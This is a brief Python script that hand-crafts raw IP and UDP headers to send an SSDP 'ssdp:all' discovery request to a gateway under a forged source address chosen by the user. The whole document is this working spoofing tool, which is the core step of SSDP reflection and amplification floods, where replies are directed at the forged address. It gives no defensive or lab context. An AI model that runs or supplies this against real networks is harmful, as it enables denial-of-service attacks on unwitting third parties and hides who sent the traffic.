"""Sends an SSDP search for everything as if from another address: forged-search.py SOURCE PORT GATEWAY."""

import socket
import struct
import sys

source, port, gateway = sys.argv[1], int(sys.argv[2]), sys.argv[3]
search = b'M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: "ssdp:discover"\r\nST: ssdp:all\r\n\r\n'
# RFC 768: a checksum of 0 is none.
udp = struct.pack("!HHHH", port, 1900, 8 + len(search), 0) + search
addresses = socket.inet_aton(source) + socket.inet_aton(gateway)
# RFC 791 §3.1; the kernel fills in length and checksum.
ip = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0) + addresses
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
    raw.sendto(ip + udp, (gateway, 0))
